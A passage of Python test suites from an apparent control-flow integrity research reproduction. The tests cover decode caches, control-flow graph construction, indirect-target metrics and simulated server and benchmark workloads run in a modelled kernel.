        for dst in (0x200, 0x300, 0x400, 0x500):
            index.check_edge(0x100, dst)
        assert index.edge_cache_stats()["resident"] == 2


class TestZeroCopy:
    def test_parallel_serial_path_slices_zero_copy(self, trace, monkeypatch):
        data, _ = trace
        seen = []
        real = fast_decoder.fast_decode

        def spy(segment, *args, **kwargs):
            seen.append(segment)
            return real(segment, *args, **kwargs)

        monkeypatch.setattr(fast_decoder, "fast_decode", spy)
        fast_decoder.fast_decode_parallel(data)
        assert seen
        for segment in seen:
            assert isinstance(segment, memoryview)
            assert segment.obj is data  # a slice, not a copy

    def test_checker_decode_tail_slices_zero_copy(
        self, pipeline, trace, monkeypatch
    ):
        data, image = trace
        seen = []
        real = fast_decode

        def spy(segment, *args, **kwargs):
            seen.append(segment)
            return real(segment, *args, **kwargs)

        import repro.monitor.fastpath as fastpath

        monkeypatch.setattr(fastpath, "fast_decode", spy)
        # The spy instruments the object engine; the columnar engine's
        # zero-copy contract is asserted in tests/test_columnar.py.
        checker, _, _ = make_checker(
            pipeline, image, cached=False, engine="objects"
        )
        checker.decode_tail(data)
        assert seen
        for segment in seen:
            assert isinstance(segment, memoryview)
            assert segment.obj is data


class TestTelemetryCounters:
    def test_segment_cache_counters(self, trace):
        data, _ = trace
        with telemetry.capture() as tel:
            cache = SegmentDecodeCache(SEG_ENTRIES)
            offsets = psb_offsets(data)
            bounds = offsets + [len(data)]
            view = memoryview(data)
            for _ in range(2):
                for begin, end in zip(offsets, bounds[1:]):
                    cache.decode_segment(view[begin:end], base=begin)
            hits = tel.metrics.counter("ipt.segment_cache.hits").total()
            misses = tel.metrics.counter(
                "ipt.segment_cache.misses"
            ).total()
        assert hits == cache.hits > 0
        assert misses == cache.misses > 0

    def test_eviction_counter(self):
        with telemetry.capture() as tel:
            cache = SegmentDecodeCache(entries=1)
            cache.decode_segment(PSB_PATTERN)
            cache.decode_segment(PSB_PATTERN + b"\x00")
            evictions = tel.metrics.counter(
                "ipt.segment_cache.evictions"
            ).total()
        assert evictions == cache.evictions == 1

    def test_edge_cache_counters(self):
        labeled = TestPromoteInvalidation().make_labeled()
        with telemetry.capture() as tel:
            index = FlowSearchIndex(labeled, edge_cache_entries=8)
            index.check_edge(0x100, 0x300)
            index.check_edge(0x100, 0x300)
            index.promote(0x100, 0x300)
            assert tel.metrics.counter(
                "itccfg.edge_cache.hits"
            ).total() == 1
            assert tel.metrics.counter(
                "itccfg.edge_cache.misses"
            ).total() == 1
            assert tel.metrics.counter(
                "itccfg.edge_cache.invalidations"
            ).total() == 1


class TestFleetParity:
    """Caches across a whole fleet run: identical verdict streams,
    exact cycle ledger, and actual cross-process reuse."""

    @staticmethod
    def _run(cached):
        from repro.experiments.common import (
            seed_server_fs,
            server_pipeline,
            server_requests,
        )

        config = FleetConfig(
            workers=2,
            ring_policy=RingPolicy.STALL,
            # Unbounded queue: backpressure must not reshape the
            # submitted work between the two runs.
            max_queue_depth=1_000_000,
            segment_cache_entries=SEG_ENTRIES if cached else 0,
            edge_cache_entries=EDGE_ENTRIES if cached else 0,
        )
        with telemetry.capture():
            service = FleetService(config)
            seed_server_fs(service.kernel)
            for name in ("nginx", "nginx"):
                service.add_workload(
                    server_pipeline(name), server_requests(name, 1)
                )
            result = service.run()
            reconciliation = service.reconcile()
        verdicts = {}
        for task in service.dispatcher.tasks:
            verdicts.setdefault(task.pid, []).append(
                (task.kind, task.syscall_nr, task.verdict)
            )
        return result, reconciliation, verdicts

    def test_fleet_verdicts_and_ledger(self):
        base, base_rec, base_verdicts = self._run(cached=False)
        warm, warm_rec, warm_verdicts = self._run(cached=True)
        assert warm_verdicts == base_verdicts
        assert base_rec["exact"] and warm_rec["exact"]
        assert base.accounting["exact"] and warm.accounting["exact"]
        assert warm.caches["segment"]["hits"] > 0
        assert warm.detections == base.detections
        assert warm.quarantined_pids == base.quarantined_pids
