"""Tests for O-CFG construction and AIA metrics."""

import pytest

from repro.analysis import (
    CFGBuilder,
    ControlFlowGraph,
    Edge,
    EdgeKind,
    aia_fine,
    aia_ocfg,
    build_ocfg,
)
from repro.analysis.cfg import BasicBlock
from repro.binary import Loader, ModuleBuilder
from repro.isa import A, Cond, Label
from repro.isa.registers import R0, R1, R2
from repro.lang import (
    Call,
    CallPtr,
    Const,
    Func,
    FuncRef,
    Let,
    Program,
    Return,
    Switch,
    Var,
)


def load_lang(prog, libraries=None, vdso=None):
    return Loader(libraries or {}, vdso=vdso).load(prog.build())


def simple_program():
    prog = Program("app")
    prog.add_func(Func("leaf", ["n"], [Return(Var("n"))]))
    prog.add_func(
        Func("main", [], [Return(Call("leaf", [Const(1)]))])
    )
    prog.set_entry("main")
    return prog


class TestBlockDiscovery:
    def test_blocks_cover_functions(self):
        image = load_lang(simple_program())
        cfg = build_ocfg(image)
        exe = image.executable
        for name, (start, end) in exe.module.function_ranges.items():
            entry_block = cfg.blocks.get(exe.base + start)
            assert entry_block is not None, f"no entry block for {name}"

    def test_block_at_lookup(self):
        image = load_lang(simple_program())
        cfg = build_ocfg(image)
        some_block = next(iter(cfg.blocks.values()))
        mid = (some_block.start + some_block.end - 1) // 2 + 1
        found = cfg.block_at(some_block.start)
        assert found is some_block
        assert cfg.block_at(0xDEADBEEF000) is None

    def test_call_splits_block(self):
        image = load_lang(simple_program())
        cfg = build_ocfg(image)
        exe = image.executable
        call_edges = [
            e for e in cfg.edges if e.kind is EdgeKind.DIRECT_CALL
        ]
        assert call_edges
        leaf_entry = exe.local_addr_of("leaf")
        assert any(e.dst == leaf_entry for e in call_edges)


class TestReturnMatching:
    def test_ret_targets_are_return_sites(self):
        image = load_lang(simple_program())
        cfg = build_ocfg(image)
        ret_edges = [e for e in cfg.edges if e.kind is EdgeKind.RET]
        assert ret_edges
        # leaf's ret must go to the block right after main's call site.
        exe = image.executable
        leaf_block = cfg.block_at(exe.local_addr_of("leaf"))
        leaf_rets = [e for e in ret_edges
                     if cfg.block_at(e.branch_addr).function == "leaf"]
        assert leaf_rets
        for edge in leaf_rets:
            target_fn = cfg.blocks[edge.dst].function
            assert target_fn in ("main", "_start")

    def test_uncalled_function_ret_has_no_targets(self):
        prog = Program("app")
        prog.add_func(Func("orphan", [], [Return(Const(0))]))
        prog.add_func(Func("main", [], [Return(Const(0))]))
        prog.set_entry("main")
        cfg = build_ocfg(load_lang(prog))
        ret_by_fn = {}
        for branch, targets in cfg.indirect_targets.items():
            block = cfg.block_at(branch)
            ret_by_fn.setdefault(block.function, set()).update(targets)
        # orphan is exported (address-taken), so indirect calls *could*
        # reach it: its ret targets are the indirect call sites' return
        # blocks, if any exist; here there are no indirect calls at all.
        assert ret_by_fn.get("orphan", set()) == set()


class TestPLTAndInterModule:
    def make_app_with_lib(self):
        lib = Program("libx.so")
        lib.add_func(Func("libfn", ["n"], [Return(Var("n"))]))
        app = Program("app")
        app.import_symbol("libfn")
        app.add_needed("libx.so")
        app.add_func(Func("main", [], [Return(Call("libfn", [Const(2)]))]))
        app.set_entry("main")
        return app, {"libx.so": lib.build()}

    def test_plt_stub_has_single_indirect_target(self):
        app, libs = self.make_app_with_lib()
        image = load_lang(app, libs)
        cfg = build_ocfg(image)
        lib = image.by_name("libx.so")
        libfn_entry = lib.addr_of("libfn")
        plt_jmp_edges = [
            e for e in cfg.edges
            if e.kind is EdgeKind.INDIRECT_JMP and e.dst == libfn_entry
        ]
        assert len(plt_jmp_edges) == 1
        src_block = cfg.blocks[plt_jmp_edges[0].src]
        assert src_block.function == "libfn@plt"

    def test_cross_module_return_edge(self):
        """libfn's ret must target the executable's return site —
        the tail-call closure through the PLT stub."""
        app, libs = self.make_app_with_lib()
        image = load_lang(app, libs)
        cfg = build_ocfg(image)
        ret_edges = [
            e for e in cfg.edges
            if e.kind is EdgeKind.RET
            and cfg.block_at(e.branch_addr).function == "libfn"
        ]
        assert ret_edges
        assert any(
            cfg.blocks[e.dst].module == "app" for e in ret_edges
        )

    def test_vdso_blocks_included(self):
        vdso = ModuleBuilder("vdso")
        vdso.add_function("gettimeofday", [A.mov(R0, 0), A.ret()])
        app = Program("app")
        app.import_symbol("gettimeofday")
        app.add_func(
            Func("main", [], [Return(Call("gettimeofday", []))])
        )
        app.set_entry("main")
        image = load_lang(app, {}, vdso=vdso.build())
        cfg = build_ocfg(image)
        assert any(b.module == "vdso" for b in cfg.blocks.values())


class TestTypeArmor:
    def test_arity_detection(self):
        prog = Program("app")
        prog.add_func(Func("zero", [], [Return(Const(1))]))
        prog.add_func(Func("two", ["a", "b"],
                           [Return(Var("a"))]))
        prog.add_func(Func("main", [], [Return(Const(0))]))
        prog.set_entry("main")
        cfg = build_ocfg(load_lang(prog))
        assert cfg.function_arity["zero"] == 0
        assert cfg.function_arity["two"] == 2

    def test_indirect_call_targets_respect_arity(self):
        prog = Program("app")
        prog.add_func(Func("takes0", [], [Return(Const(1))]))
        prog.add_func(Func("takes1", ["a"], [Return(Var("a"))]))
        prog.add_func(
            Func("takes3", ["a", "b", "c"], [Return(Var("c"))])
        )
        prog.add_func(
            Func(
                "main",
                [],
                [
                    Let("fp", FuncRef("takes1")),
                    Return(CallPtr(Var("fp"), [Const(9)])),
                ],
            )
        )
        prog.set_entry("main")
        image = load_lang(prog)
        cfg = build_ocfg(image)
        exe = image.executable
        callr_branches = {
            e.branch_addr
            for e in cfg.edges
            if e.kind is EdgeKind.INDIRECT_CALL
            and cfg.block_at(e.branch_addr).function == "main"
        }
        assert len(callr_branches) == 1
        callr_targets = cfg.indirect_targets[callr_branches.pop()]
        # One argument prepared: arity-0 and arity-1 functions allowed,
        # arity-3 excluded.
        assert exe.local_addr_of("takes1") in callr_targets
        assert exe.local_addr_of("takes0") in callr_targets
        assert exe.local_addr_of("takes3") not in callr_targets


class TestSwitchJumpTables:
    def test_switch_targets_bounded_to_function(self):
        prog = Program("app")
        prog.add_func(Func("other", [], [Return(Const(0))]))
        prog.add_func(
            Func(
                "main",
                [],
                [
                    Let("x", Const(2)),
                    Switch(
                        Var("x"),
                        {
                            0: [Return(Const(10))],
                            1: [Return(Const(11))],
                            2: [Return(Const(12))],
                        },
                        default=[Return(Const(-1))],
                    ),
                ],
            )
        )
        prog.set_entry("main")
        image = load_lang(prog)
        cfg = build_ocfg(image)
        jmp_edges = [
            e for e in cfg.edges if e.kind is EdgeKind.INDIRECT_JMP
        ]
        assert jmp_edges
        main_block = cfg.block_at(jmp_edges[0].branch_addr)
        assert main_block.function == "main"
        for edge in jmp_edges:
            assert cfg.blocks[edge.dst].function == "main"


class TestAIAMetrics:
    def test_aia_empty(self):
        assert aia_ocfg(ControlFlowGraph()) == 0.0

    def test_aia_counts_targets_per_branch(self):
        cfg = ControlFlowGraph()
        for start in (0x100, 0x200, 0x300, 0x400):
            cfg.add_block(BasicBlock(start, start + 0x10, "m"))
        cfg.add_edge(Edge(0x100, 0x200, EdgeKind.INDIRECT_CALL, 0x108))
        cfg.add_edge(Edge(0x100, 0x300, EdgeKind.INDIRECT_CALL, 0x108))
        cfg.add_edge(Edge(0x200, 0x400, EdgeKind.RET, 0x208))
        assert aia_ocfg(cfg) == pytest.approx((2 + 1) / 2)

    def test_aia_fine_single_target_returns(self):
        cfg = ControlFlowGraph()
        for start in (0x100, 0x200, 0x300, 0x400):
            cfg.add_block(BasicBlock(start, start + 0x10, "m"))
        cfg.add_edge(Edge(0x100, 0x200, EdgeKind.RET, 0x108))
        cfg.add_edge(Edge(0x100, 0x300, EdgeKind.RET, 0x108))
        cfg.add_edge(Edge(0x100, 0x400, EdgeKind.RET, 0x108))
        # Shadow stack reduces the 3-target return to a single target.
        assert aia_fine(cfg) == 1.0
        assert aia_ocfg(cfg) == 3.0

    def test_stats_split_exec_lib(self):
        cfg = ControlFlowGraph()
        cfg.add_block(BasicBlock(0x100, 0x110, "app"))
        cfg.add_block(BasicBlock(0x200, 0x210, "libc.so"))
        stats = cfg.stats()
        assert stats["exec_blocks"] == 1
        assert stats["lib_blocks"] == 1
