"""Tests for the workload programs: correctness and branch personality."""

import pytest

from repro.cpu import CoFIKind
from repro.osmodel import Kernel, ProcessState
from repro.workloads import (
    SPEC_BUILDERS,
    UTILITY_BUILDERS,
    build_dd,
    build_launcher,
    build_libsim,
    build_make,
    build_nginx,
    build_scp,
    build_tar,
    build_vdso,
    build_vsftpd,
    exim_session,
    nginx_request,
    openssh_session,
    vsftpd_session,
)
from repro.workloads.spec import SPEC_NAMES, build_spec_program
from repro.workloads.utilities import (
    DD_INPUT,
    DD_OUTPUT,
    MAKE_OUTPUT,
    SCP_INPUT,
    SCP_OUTPUT,
    TAR_OUTPUT,
    seed_utility_inputs,
)

LIBS = {"libsim.so": build_libsim()}


def run_server(builder, name, payloads, fs=None):
    kernel = Kernel()
    for path, contents in (fs or {}).items():
        kernel.fs.create(path, contents)
    kernel.register_program(name, builder(), LIBS, vdso=build_vdso())
    proc = kernel.spawn(name)
    conns = [proc.push_connection(p) for p in payloads]
    kernel.run(proc)
    return kernel, proc, conns


class TestLibsim:
    def test_gadget_functions_exported(self):
        lib = build_libsim()
        for name in ("setcontext", "sigreturn", "memcpy", "strcpy",
                     "malloc", "write_str", "puts"):
            assert name in lib.symbols, name

    def test_puts_is_a_tail_call(self):
        """puts jmp's into write_str: an inter-procedural direct jump
        the §4.1 tail-call handling must see."""
        from repro.analysis import build_ocfg, EdgeKind
        from repro.binary import Loader
        from repro.lang import Call, Const, Func, Global, Program, Return

        prog = Program("app")
        prog.add_needed("libsim.so")
        prog.import_symbol("puts")
        prog.add_string("msg", "hi")
        prog.add_func(
            Func("main", [], [Return(Call("puts", [Global("msg")]))])
        )
        prog.set_entry("main")
        image = Loader(LIBS).load(prog.build())
        cfg = build_ocfg(image)
        lib = image.by_name("libsim.so")
        # write_str's ret must be able to return to the *executable*
        # (via puts' caller), the tail-call closure at work.
        ret_edges = [
            e for e in cfg.edges
            if e.kind is EdgeKind.RET
            and cfg.block_at(e.branch_addr).function == "write_str"
        ]
        assert any(cfg.blocks[e.dst].module == "app" for e in ret_edges)

    def test_puts_writes_stdout(self):
        from repro.lang import Call, Const, Func, Global, Program, Return

        prog = Program("app")
        prog.add_needed("libsim.so")
        prog.import_symbol("puts")
        prog.add_string("msg", "tailcall!")
        prog.add_func(
            Func("main", [], [Return(Call("puts", [Global("msg")]))])
        )
        prog.set_entry("main")
        kernel = Kernel()
        kernel.register_program("app", prog.build(), LIBS)
        proc = kernel.spawn("app")
        kernel.run(proc)
        assert proc.stdout == bytearray(b"tailcall!")
        assert proc.exit_code == 9  # write() length propagates

    def test_malloc_bump_allocator(self):
        from repro.lang import (
            BinOp, Call, Const, Func, Program, Return, Let, Store, Load, Var,
        )

        prog = Program("app")
        prog.add_needed("libsim.so")
        prog.import_symbol("malloc")
        prog.add_func(
            Func(
                "main", [],
                [
                    Let("a", Call("malloc", [Const(16)])),
                    Let("b", Call("malloc", [Const(16)])),
                    Store(Var("a"), Const(11)),
                    Store(Var("b"), Const(22)),
                    Return(BinOp("+", Load(Var("a")), Load(Var("b")))),
                ],
            )
        )
        prog.set_entry("main")
        kernel = Kernel()
        kernel.register_program("app", prog.build(), LIBS)
        proc = kernel.spawn("app")
        kernel.run(proc)
        assert proc.exit_code == 33


class TestServers:
    def test_nginx_head_request(self):
        _, proc, conns = run_server(
            build_nginx, "nginx",
            [nginx_request("/x", "HEAD")],
        )
        assert bytes(conns[0].outbound) == b"HTTP/1.1 200 OK\n\n"

    def test_nginx_bad_method(self):
        _, proc, conns = run_server(build_nginx, "nginx", [b"PUT /x\n"])
        assert b"400" in bytes(conns[0].outbound)

    def test_nginx_serves_file_contents(self):
        _, proc, conns = run_server(
            build_nginx, "nginx",
            [nginx_request("/f.txt")],
            fs={"/f.txt": b"payload-bytes" * 50},
        )
        out = bytes(conns[0].outbound)
        assert out.startswith(b"HTTP/1.1 200")
        assert out.endswith(b"payload-bytes")
        assert out.count(b"payload-bytes") == 50

    def test_vsftpd_stor_roundtrip(self):
        kernel, proc, conns = run_server(
            build_vsftpd, "vsftpd",
            [b"USER u\nPASS p\nSTOR /up.bin\nhello-upload\nQUIT\n"],
        )
        # STOR consumes the rest of the connection stream.
        assert kernel.fs.exists("/up.bin")
        assert b"hello-upload" in kernel.fs.contents("/up.bin")

    def test_vsftpd_requires_auth(self):
        _, proc, conns = run_server(
            build_vsftpd, "vsftpd",
            [b"RETR /srv/file\nQUIT\n"],
            fs={"/srv/file": b"secret"},
        )
        out = bytes(conns[0].outbound)
        assert b"500" in out
        assert b"secret" not in out

    def test_openssh_rejects_bad_password(self):
        _, proc, conns = run_server(
            build_openssh_alias(), "openssh",
            [b"admin\nwrong\nwhoami\nexit\n"],
        )
        out = bytes(conns[0].outbound)
        assert b"auth failed" in out
        assert b"admin\n" not in out.split(b"auth failed")[1]

    def test_exim_bad_sequence(self):
        _, proc, conns = run_server(
            build_exim_alias(), "exim",
            [b"MAIL FROM:<a@b>\nQUIT\n"],
        )
        assert b"503" in bytes(conns[0].outbound)

    def test_exim_spools_mail(self):
        kernel, proc, conns = run_server(
            build_exim_alias(), "exim", [exim_session()]
        )
        assert kernel.fs.exists("/var/spool/mail.out")
        assert b"hello" in kernel.fs.contents("/var/spool/mail.out")


def build_openssh_alias():
    from repro.workloads import build_openssh

    return build_openssh


def build_exim_alias():
    from repro.workloads import build_exim

    return build_exim


class TestUtilities:
    def launch(self, name):
        kernel = Kernel()
        seed_utility_inputs(kernel.fs)
        kernel.register_program(name, UTILITY_BUILDERS[name](), LIBS)
        kernel.register_program(f"launch-{name}", build_launcher(name),
                                LIBS)
        proc = kernel.spawn(f"launch-{name}")
        kernel.run(proc)
        return kernel, proc

    def test_tar_archives_all_inputs(self):
        kernel, proc = self.launch("tar")
        assert proc.exit_code == 0
        archive = kernel.fs.contents(TAR_OUTPUT)
        assert len(archive) > 3 * 1000  # three ~4 KiB files + headers

    def test_dd_copies_exactly(self):
        kernel, proc = self.launch("dd")
        assert kernel.fs.contents(DD_OUTPUT) == kernel.fs.contents(DD_INPUT)

    def test_make_dispatches_rules(self):
        kernel, proc = self.launch("make")
        log = kernel.fs.contents(MAKE_OUTPUT)
        assert log.count(b"CC  ") == 2
        assert log.count(b"LD  ") == 1
        assert b"??  note" in log

    def test_scp_copies_and_checksums(self):
        kernel, proc = self.launch("scp")
        assert kernel.fs.contents(SCP_OUTPUT) == kernel.fs.contents(
            SCP_INPUT
        )


class TestSpecSuite:
    @pytest.mark.parametrize("name", SPEC_NAMES)
    def test_all_programs_run_clean(self, name):
        kernel = Kernel()
        kernel.register_program(name, build_spec_program(name, 1), LIBS)
        proc = kernel.spawn(name)
        state = kernel.run(proc, max_steps=30_000_000)
        assert state is ProcessState.EXITED, proc.fault
        assert proc.stdout  # the result digits were printed

    def test_deterministic_results(self):
        results = []
        for _ in range(2):
            kernel = Kernel()
            kernel.register_program(
                "gcc", build_spec_program("gcc", 1), LIBS
            )
            proc = kernel.spawn("gcc")
            kernel.run(proc, max_steps=30_000_000)
            results.append(proc.exit_code)
        assert results[0] == results[1]

    def test_h264ref_is_indirect_call_densest(self):
        """The Figure 5c outlier: h264ref's indirect-call rate tops the
        suite."""
        def indirect_call_rate(name):
            kernel = Kernel()
            kernel.register_program(
                name, build_spec_program(name, 1), LIBS
            )
            proc = kernel.spawn(name)
            counts = {"calls": 0}

            def listener(event):
                if event.kind is CoFIKind.INDIRECT_CALL:
                    counts["calls"] += 1

            proc.executor.add_listener(listener)
            kernel.run(proc, max_steps=30_000_000)
            return counts["calls"] / proc.executor.insn_count

        h264 = indirect_call_rate("h264ref")
        for other in ("lbm", "bzip2", "mcf", "hmmer"):
            assert h264 > 5 * indirect_call_rate(other)

    def test_lbm_is_branch_sparse(self):
        kernel = Kernel()
        kernel.register_program("lbm", build_spec_program("lbm", 1), LIBS)
        proc = kernel.spawn("lbm")
        counts = {"cofi": 0}
        proc.executor.add_listener(lambda e: counts.__setitem__(
            "cofi", counts["cofi"] + 1))
        kernel.run(proc, max_steps=30_000_000)
        assert counts["cofi"] / proc.executor.insn_count < 0.08

    def test_unknown_benchmark_rejected(self):
        with pytest.raises(KeyError):
            build_spec_program("doom", 1)
